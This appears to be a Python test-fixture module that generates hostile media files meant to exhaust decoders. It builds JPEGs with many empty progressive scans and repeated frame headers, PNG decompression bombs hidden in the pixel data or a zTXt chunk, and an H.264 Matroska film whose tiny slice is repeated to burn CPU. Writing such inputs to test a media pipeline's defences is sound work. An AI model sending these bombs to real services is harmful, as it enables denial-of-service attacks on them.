"""Pictures that cost far more than their bytes: what attackers send."""

import io
import struct
import zlib
from fractions import Fraction

import av
import numpy as np


def jpeg_of_empty_scans(width: int, height: int, scans: int, frame_headers: int = 1) -> bytes:
    """A progressive JPEG whose scans say nothing: each goes over every block (ITU-T T.81 §G); each header takes a picture's memory."""

    def segment(marker: int, data: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data

    head = b"\xff\xd8" + segment(0xDB, b"\0" + b"\1" * 64)
    head += segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0") * frame_headers
    codes = bytes([1] + [0] * 15)
    head += segment(0xC4, b"\0" + codes + b"\0") + segment(0xC4, b"\x10" + codes + b"\xe0")
    runs = -(-(-(-width // 8) * -(-height // 8)) // 32_767)  # an end-of-band run is at most so many blocks long
    bits = ("0" + "1" * 14) * runs
    bits += "1" * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")
    return head + (segment(0xDA, b"\1\1\0\1\x3f\0") + data) * scans + b"\xff\xd9"


def png_bomb(width: int, height: int, unpacked_bytes: int, *, in_text: bool) -> bytes:
    """A PNG that unpacks to `unpacked_bytes`: in its pixels, or in a text beside them."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj()
    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(unpacked_bytes >> 20)) + packer.flush()
    pixels = zlib.compress(bytes((3 * width + 1) * height)) if in_text else bomb
    text = chunk(b"zTXt", b"k\0\0" + bomb) if in_text else b""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + text + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def av1_packets(width: int, height: int, count: int) -> list[bytes]:
    """One grey picture after another; all but the first of about 25 bytes."""
    return _packets("libsvtav1", width, height, count, {"preset": "11", "svtav1-params": "pred-struct=1:lp=1"})


def h264_packets(width: int, height: int, count: int, slices: int = 2) -> list[bytes]:
    """One grey picture after another, each NAL unit behind a start code (Annex B); all but the first change nothing."""
    parameters = f"slices={slices}:repeat-headers=1:annexb=1"
    options = {"preset": "ultrafast", "tune": "zerolatency", "x264-params": parameters}
    return _packets("libx264", width, height, count, options)


def h264_bomb(slices: int, width: int = 5120, height: int = 2880) -> bytes:
    """A film of two pictures, the second with a slice of 15 bytes that goes over half of it so many times: 2 ms each."""
    first, second = h264_packets(width, height, 2)
    return film_of("libx264", [first, second + second[second.rindex(b"\0\0\1") :] * slices], width, height)


def _packets(encoder: str, width: int, height: int, count: int, options: dict[str, str]) -> list[bytes]:
    codec = av.CodecContext.create(encoder, "w")
    assert isinstance(codec, av.VideoCodecContext)
    codec.width, codec.height, codec.pix_fmt, codec.time_base = width, height, "yuv420p", Fraction(1, 25)
    codec.framerate = Fraction(25)
    codec.options = options
    found: list[bytes] = []
    for number in range(count):
        frame = av.VideoFrame.from_ndarray(np.full((height * 3 // 2, width), 128, np.uint8), "yuv420p")
        frame.pts = number
        found += [bytes(packet) for packet in codec.encode(frame)]
    return found + [bytes(packet) for packet in codec.encode(None)]


def film_of(codec: str, pictures: list[bytes], width: int, height: int) -> bytes:
    """These packets as Matroska, 40 ms apart."""
    file = io.BytesIO()
    with av.open(file, "w", format="matroska") as output:
        stream = output.add_stream(codec, rate=25)
        assert isinstance(stream, av.VideoStream)
        stream.width, stream.height = width, height
        stream.pix_fmt = "yuvj420p" if codec == "mjpeg" else "yuv420p"
        for number, picture in enumerate(pictures):
            packet = av.Packet(picture)
            packet.stream, packet.pts, packet.dts, packet.time_base = stream, number, number, Fraction(1, 25)
            packet.is_keyframe = codec == "mjpeg" or number == 0
            output.mux_one(packet)
    return file.getvalue()
